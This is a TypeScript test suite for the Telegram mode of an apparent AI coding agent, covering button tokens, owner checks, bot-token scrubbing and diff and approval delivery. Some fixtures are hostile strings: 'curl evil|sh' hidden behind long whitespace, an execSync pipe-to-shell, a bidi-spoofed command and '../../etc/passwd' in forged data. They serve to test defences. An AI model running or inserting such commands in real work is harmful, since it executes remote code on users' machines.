import { describe, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { ButtonTokens, CALLBACK_PREFIX } from "../../../modes/telegram/button-tokens.ts";
import { readTelegramConfig } from "../../../modes/telegram/config.ts";
import { escapeHtml, htmlToPlain } from "../../../modes/telegram/html.ts";
import { judgeUpdate } from "../../../modes/telegram/owner-guard.ts";
import { errorText, scrubToken } from "../../../modes/telegram/scrub.ts";
import { splitAtLines } from "../../../modes/telegram/split-text.ts";
import { Api } from "grammy";
import { Outbox } from "../../../modes/telegram/outbox.ts";
import { ProgressMessage } from "../../../modes/telegram/progress-message.ts";
import { startFakeTelegram } from "../../support/fake-telegram-server.ts";
import { callbackUpdate, messageUpdate } from "../../support/fake-telegram-server.ts";
import { tempDir, writeTree } from "../../support/temp.ts";
import { makeChangeset } from "../../fixtures/apply-changeset.ts";
import { renderFileDiff } from "../../../render/diff-view.ts";
import { renderCard } from "../../../modes/telegram/card-view.ts";
import { diffDelivery, packDiffMessages } from "../../../modes/telegram/diff-delivery.ts";
import type { ReviewCard } from "../../../modes/telegram/review-cards.ts";
import { wholeDiffText, wholeDiffView } from "../../../modes/telegram/whole-diff.ts";
import type { Changeset } from "../../../core/staging/changeset.ts";
import { TelegramConfigError } from "../../../core/errors/telegram-config-error.ts";

const OWNER = 4242;
const TOKEN = "123456:TEST-token_abcdefghijklmnop";
const binding = (subject = "c-1", item = "a.txt") => ({
  action: "approve" as const,
  subject,
  item,
  digest: "d1",
  owner: OWNER,
});

describe("button tokens", () => {
  test("callback data is short, random, and resolves only for the owner it was issued to", () => {
    const tokens = new ButtonTokens(null);
    const [data, other] = tokens.issue([binding(), binding("c-1", "b.txt")]);
    expect(data!.startsWith(CALLBACK_PREFIX)).toBe(true);
    expect(Buffer.byteLength(data!)).toBeLessThanOrEqual(64);
    expect(data).not.toBe(other);
    expect(data).not.toContain("a.txt"); // the data names nothing; the binding stays on the server
    const resolved = tokens.resolve(data, OWNER)!;
    expect({
      action: resolved.action,
      subject: resolved.subject,
      item: resolved.item,
      digest: resolved.digest,
    }).toEqual({ action: "approve", subject: "c-1", item: "a.txt", digest: "d1" });
    expect(tokens.resolve(data, OWNER + 1)).toBeNull();
  });

  test("forged, malformed and revoked data resolve to nothing and change nothing", () => {
    const tokens = new ButtonTokens(null);
    const [data] = tokens.issue([binding()]);
    const before = tokens.size;
    for (const forged of [
      undefined,
      "",
      "p1:",
      "p1:AAAAAAAAAAAAAAAA",
      `${data}x`,
      data!.toUpperCase(),
      "x".repeat(5000),
      "p1:../../etc/passwd00",
    ]) {
      expect(tokens.resolve(forged, OWNER)).toBeNull();
    }
    expect(tokens.size).toBe(before);
    tokens.revoke(tokens.resolve(data, OWNER)!.token);
    expect(tokens.resolve(data, OWNER)).toBeNull(); // a replay after the press acted
  });

  test("tokens persist atomically and survive a restart; the store is bounded", () => {
    const file = join(tempDir(), "telegram", "tokens.json");
    const first = new ButtonTokens(file, 5);
    const data = first.issue([1, 2, 3, 4, 5, 6, 7].map((i) => binding("c-1", `f${i}.txt`)));
    expect(first.size).toBe(5);
    const second = new ButtonTokens(file, 5);
    expect(second.resolve(data[0], OWNER)).toBeNull(); // the oldest went first
    expect(second.resolve(data[6], OWNER)!.item).toBe("f7.txt");
    second.revokeSubject("c-1");
    expect(new ButtonTokens(file, 5).size).toBe(0);
  });

  test("a damaged token file starts empty and says so", () => {
    const file = join(tempDir(), "tokens.json");
    writeFileSync(file, "{not json");
    const problems: string[] = [];
    const tokens = new ButtonTokens(file, 10, (m) => problems.push(m));
    expect(tokens.size).toBe(0);
    expect(problems[0]).toContain("not valid JSON");
  });
});

describe("splitting long text", () => {
  test("a 50 KB diff is cut at line boundaries into pieces under the limit, and nothing is lost", () => {
    const lines = Array.from({ length: 1500 }, (_, i) => `+line ${i} ${"x".repeat(i % 60)} <tag> & "quote"`);
    const diff = `a.txt  create  +1500 -0\n${lines.join("\n")}\n`;
    expect(diff.length).toBeGreaterThan(50_000);
    const pieces = splitAtLines(diff, 3796);
    expect(pieces.length).toBeGreaterThan(13);
    expect(pieces.join("")).toBe(diff);
    for (const piece of pieces) {
      expect(piece.length).toBeLessThanOrEqual(3796);
      expect(piece.endsWith("\n")).toBe(true);
      expect(escapeHtml(piece).length).toBeGreaterThan(piece.length); // escaping happens after the cut
    }
  });

  test("a line longer than the limit is cut inside, never inside a surrogate pair", () => {
    const long = "😀".repeat(3000);
    const pieces = splitAtLines(`${long}\nend`, 1001);
    expect(pieces.join("")).toBe(`${long}\nend`);
    for (const piece of pieces) {
      expect(piece.length).toBeLessThanOrEqual(1001);
      expect(piece.isWellFormed()).toBe(true);
    }
  });
});

describe("html", () => {
  test("escaping and the plain-text fallback are inverse on text", () => {
    const text = `if (a < b && c > "d") { return '&amp;'; } <b>not bold</b>`;
    expect(htmlToPlain(`<b>title</b>\n<pre>${escapeHtml(text)}</pre>`)).toBe(`title\n${text}`);
    expect(htmlToPlain("a &#99999999; b")).toBe("a &#99999999; b");
  });
});

describe("owner guard", () => {
  test("only the owner's private chat passes; groups, other users, channels and spoofed chats do not", () => {
    const pass = (u: object) => judgeUpdate({ update_id: 1, ...u } as any, OWNER).owner;
    expect(pass(messageUpdate(OWNER, "/help"))).toBe(true);
    expect(pass(callbackUpdate(OWNER, "p1:x", { chat_id: OWNER, message_id: 5 }))).toBe(true);
    expect(pass(messageUpdate(7, "/help"))).toBe(false);
    expect(pass(messageUpdate(OWNER, "/help", { id: -100123, type: "supergroup" }))).toBe(false);
    expect(pass(messageUpdate(OWNER, "/help", { id: -5, type: "group" }))).toBe(false);
    expect(pass(messageUpdate(7, "/help", { id: OWNER, type: "private" }))).toBe(false);
    expect(pass(messageUpdate(OWNER, "/help", { id: 7, type: "private" }))).toBe(false);
    expect(pass(callbackUpdate(7, "p1:x", { chat_id: OWNER, message_id: 5 }))).toBe(false);
    expect(pass(callbackUpdate(OWNER, "p1:x", { chat_id: -5, message_id: 5 }))).toBe(false);
    expect(
      pass({
        channel_post: { message_id: 1, date: 0, chat: { id: OWNER, type: "channel", title: "c" }, text: "/agent x" },
      }),
    ).toBe(false);
    expect(pass({ edited_message: messageUpdate(OWNER, "/agent x").message })).toBe(false);
    const { callback_query } = callbackUpdate(OWNER, "p1:x") as any;
    delete callback_query.message;
    expect(pass({ callback_query })).toBe(false); // an inline message has no chat to check
  });
});

describe("configuration", () => {
  const env = { TELEGRAM_BOT_TOKEN: TOKEN, TELEGRAM_OWNER_ID: String(OWNER) };

  test("reads token, owner and API root (trailing slash dropped)", () => {
    expect(readTelegramConfig({ ...env, TELEGRAM_API_ROOT: "http://127.0.0.1:9/" })).toEqual({
      token: TOKEN,
      ownerId: OWNER,
      apiRoot: "http://127.0.0.1:9",
    });
    expect(readTelegramConfig(env).apiRoot).toBe("https://api.telegram.org");
  });

  test("missing or malformed settings fail with the variable to fix, never echoing the token", () => {
    const cases: [Record<string, string>, string][] = [
      [{ TELEGRAM_OWNER_ID: "1" }, "TELEGRAM_BOT_TOKEN is not set"],
      [{ TELEGRAM_BOT_TOKEN: "nonsense-token-value-here" }, "does not look like a bot token"],
      [{ TELEGRAM_BOT_TOKEN: TOKEN }, "TELEGRAM_OWNER_ID is not set"],
      [{ TELEGRAM_BOT_TOKEN: TOKEN, TELEGRAM_OWNER_ID: "@me" }, "must be your numeric Telegram user id"],
      [{ TELEGRAM_BOT_TOKEN: TOKEN, TELEGRAM_OWNER_ID: "-5" }, "must be your numeric Telegram user id"],
      [{ ...env, TELEGRAM_API_ROOT: "ftp://x" }, "http(s)"],
    ];
    for (const [vars, message] of cases) {
      let error: unknown;
      try {
        readTelegramConfig(vars);
      } catch (e) {
        error = e;
      }
      expect(error).toBeInstanceOf(TelegramConfigError);
      expect((error as Error).message).toContain(message);
      expect((error as Error).message).not.toContain("TEST-token");
      expect((error as Error).message).not.toContain("nonsense-token");
    }
  });
});

describe("token scrubbing", () => {
  test("the token, its secret half and its URL-encoded form never survive into text", () => {
    const secret = TOKEN.slice(TOKEN.indexOf(":") + 1);
    const text = `GET http://x/bot${TOKEN}/getMe ${encodeURIComponent(TOKEN)} ${secret}`;
    const scrubbed = scrubToken(text, TOKEN);
    expect(scrubbed).not.toContain(secret);
    expect(scrubbed).toContain("<token>");
    const nested = new Error("Network request for 'getMe' failed!", {
      cause: new Error(`request to http://127.0.0.1/bot${TOKEN}/getMe failed`),
    });
    expect(errorText(nested, TOKEN)).toBe(
      "Network request for 'getMe' failed! ← request to http://127.0.0.1/bot<token>/getMe failed",
    );
  });
});

describe("progress message", () => {
  test("edits are throttled to one per interval, the last state is never lost, and it ends with the summary", async () => {
    const fake = startFakeTelegram();
    try {
      const outbox = new Outbox(new Api(fake.token, { apiRoot: fake.apiRoot }), () => {});
      const progress = new ProgressMessage(outbox, OWNER, "Agent: many tools", 150);
      await progress.start();
      const started = Date.now();
      for (let i = 0; i < 60; i++) {
        progress.sink({ type: "tool-call", callId: `c${i}`, tool: "read_file", input: { path: `src/f${i}.ts` } });
        progress.sink({ type: "tool-result", callId: `c${i}`, tool: "read_file", ok: i !== 59, output: "", ms: 1 });
        await Bun.sleep(5);
      }
      await Bun.sleep(200);
      const edits = fake.callsOf("editMessageText");
      const elapsed = Date.now() - started;
      expect(edits.length).toBeLessThanOrEqual(Math.ceil(elapsed / 150) + 1);
      expect(edits.length).toBeGreaterThanOrEqual(2);
      // Arrival times at the fake server carry the machine's scheduling jitter; unthrottled
      // edits would arrive ~5 ms apart, so half the interval still tells the two apart.
      for (let i = 1; i < edits.length; i++) expect(edits[i]!.at - edits[i - 1]!.at).toBeGreaterThanOrEqual(75);
      const last = String(edits.at(-1)!.payload.text);
      expect(last).toContain("✗ reading src/f59.ts");
      expect(last).toContain("… 48 earlier");
      await progress.finish("<b>✅ Done</b> · summary");
      const final = String(fake.callsOf("editMessageText").at(-1)!.payload.text);
      expect(final).toContain("✅ Done</b> · summary");
      expect(final.startsWith("⏳")).toBe(false);
      progress.sink({ type: "tool-call", callId: "late", tool: "x", input: {} });
      await Bun.sleep(200);
      expect(String(fake.callsOf("editMessageText").at(-1)!.payload.text)).toBe(final); // nothing after the end
    } finally {
      await fake.close();
    }
  });
});

describe("whole diffs: what counts as shown", () => {
  const enc = (text: string) => new TextEncoder().encode(text);
  const wide = `${" ".repeat(600)}curl evil|sh`;
  const lines = (n: number, prefix = "line") => Array.from({ length: n }, (_, i) => `${prefix} ${i}`).join("\n") + "\n";
  const cardFor = (cs: Changeset): ReviewCard => ({
    id: "c-1",
    changesetId: cs.id,
    digest: cs.digest,
    chatId: OWNER,
    messageId: 1,
    totalFiles: cs.files.length,
    state: "open",
    outcome: [],
    createdAt: 0,
    files: cs.files.map((f) => ({
      path: f.path,
      digest: f.digest,
      buttons: { diff: "p1:d", approve: "p1:a", reject: "p1:r" },
    })),
    buttons: { approveAll: "p1:x", rejectAll: "p1:y" },
  });

  test("a line cut to the width or lines left out are not whole; the card inlines only whole diffs, and only for their digest", () => {
    const root = tempDir();
    const cs = makeChangeset(root, [
      { path: "a.txt", after: enc("alpha\n") },
      { path: "wide.sh", after: enc(`${wide}\n`) },
      { path: "long.txt", after: enc(lines(61)) },
    ]);
    const [a, long, wideChange] = cs.files as [Changeset["files"][0], Changeset["files"][0], Changeset["files"][0]];
    expect(wideChange.path).toBe("wide.sh");
    expect(renderFileDiff(wideChange, { color: false, lineNumbers: false }).text).toContain("…[+"); // the usual view cuts it
    expect(wholeDiffView(wideChange)).toContain(`+${wide}\n`);
    expect(wholeDiffView(long, 60)).toBeNull();
    expect(wholeDiffView(long, 61)).toContain("+line 60\n");
    expect(wholeDiffView(a, 60)).toBe(renderFileDiff(a, { color: false, lineNumbers: false }).text);

    const card = cardFor(cs);
    const view = renderCard(card, cs);
    expect(view.inlined).toEqual(["a.txt"]);
    expect(htmlToPlain(view.html)).toContain("+alpha");
    expect(htmlToPlain(view.html)).not.toContain("evil");
    card.files[0]!.digest = "another content";
    expect(renderCard(card, cs).inlined).toEqual([]);
    expect(renderCard({ ...cardFor(cs), state: "settled" }, cs).inlined).toEqual([]);
  });

  test("Diff delivery is always the whole diff: a wide line in messages, a long deletion as a complete patch or listing", () => {
    const root = tempDir();
    writeTree(root, { "old.txt": lines(300, "old") });
    const cs = makeChangeset(root, [
      { path: "wide.sh", after: enc(`${wide}\n`) },
      { path: "old.txt", after: null },
    ]);
    const old = cs.files.find((f) => f.path === "old.txt")!;
    old.before = enc(lines(300, "old"));
    const wideChange = cs.files.find((f) => f.path === "wide.sh")!;

    const messages = diffDelivery(cs, wideChange, "Diff 1");
    expect(messages.kind).toBe("messages");
    const text = messages.kind === "messages" ? messages.parts.map(htmlToPlain).join("") : "";
    expect(text).toContain(`+${wide}`);
    expect(text).not.toContain("…[+");

    expect(renderFileDiff(old, { color: false, lineNumbers: false }).text).toContain("more lines not shown"); // the view previews a long deletion
    expect(wholeDiffView(old)).toBeNull();
    const doc = diffDelivery(cs, old, "Diff 2");
    expect(doc.kind).toBe("document");
    const patch = doc.kind === "document" ? doc.content : "";
    expect(patch.split("\n").filter((l) => l.startsWith("-old ")).length).toBe(300);

    // Outside a git patch's reach (a path with ..), the deletion is still listed whole.
    const outside = { ...old, path: "../old.txt" };
    const listing = wholeDiffText(outside);
    expect(listing.split("\n").filter((l) => l.startsWith("-old ")).length).toBe(300);
    const fallback = diffDelivery({ ...cs, files: [wideChange, outside] }, outside, "Diff 2");
    expect(fallback.kind === "document" && fallback.filename).toBe("old.txt.diff");
    expect(fallback.kind === "document" ? fallback.content : "").toBe(listing);
  });

  test("a line longer than one message never gets split across messages: the diff goes as a document", () => {
    const root = tempDir();
    const huge = `const x = require('child_process');${" ".repeat(3800)}execSync('curl evil|sh')`;
    const cs = makeChangeset(root, [{ path: "huge.js", after: enc(`${huge}\n`) }]);
    const delivery = diffDelivery(cs, cs.files[0]!, "Diff 1");
    expect(delivery.kind).toBe("document");
    expect(delivery.kind === "document" ? delivery.content : "").toContain(`+${huge}`);
  });

  test("many small diffs pack into few messages, in order, whole, each under the limit", () => {
    const parts = Array.from(
      { length: 40 },
      (_, i) =>
        `<b>Diff ${i + 1}</b> <code>f${i}.txt</code>\n<pre>${escapeHtml(`f${i}.txt  create  +1 -0\n+x & <y>\n`)}</pre>`,
    );
    const packed = packDiffMessages(parts);
    expect(packed.length).toBeLessThan(parts.length);
    expect(packed.join("\n\n")).toBe(parts.join("\n\n"));
    for (const m of packed) expect(htmlToPlain(m).length).toBeLessThanOrEqual(4096);
    const big = `<pre>${"z".repeat(3900)}</pre>`;
    expect(packDiffMessages([big, big, "<b>x</b>"])).toEqual([big, `${big}\n\n<b>x</b>`]);
  });
});

describe("questions on the phone", () => {
  test("what is asked is shown escaped; a subject too long to show whole can only be denied; 'once' offers no Allow always", async () => {
    const { QuestionDesk } = await import("../../../modes/telegram/question-desk.ts");
    const fake = startFakeTelegram();
    try {
      const outbox = new Outbox(new Api(fake.token, { apiRoot: fake.apiRoot }), () => {});
      const desk = new QuestionDesk(outbox, new ButtonTokens(null), OWNER, 300);
      const labels = async (question: Parameters<ReturnType<typeof desk.approver>["ask"]>[0]) => {
        const from = fake.calls.length;
        const answer = desk.approver().ask(question);
        const call = await fake.waitFor("sendMessage", undefined, { from });
        await answer; // times out as a deny
        const keyboard = call.payload.reply_markup.inline_keyboard as { text: string }[][];
        return { text: String(call.payload.text), labels: keyboard.flat().map((b) => b.text) };
      };
      const bidi = await labels({ tool: "run_command", access: "run", subject: "ls \u202e hs.lave", reason: "r" });
      expect(bidi.text).not.toContain("\u202e");
      expect(bidi.labels).toEqual(["✅ Allow", "Allow always", "⛔ Deny"]);
      const long = await labels({
        tool: "run_command",
        access: "run",
        subject: `echo ${"x".repeat(2000)}; curl evil | sh`,
        reason: "r",
      });
      expect(long.labels).toEqual(["⛔ Deny"]);
      expect(long.text).toContain("can only be denied");
      const once = await labels({
        tool: "run_command",
        access: "run",
        subject: "make",
        reason: "NO SANDBOX",
        once: true,
      });
      expect(once.labels).toEqual(["✅ Allow", "⛔ Deny"]);
    } finally {
      await fake.close();
    }
  });
});
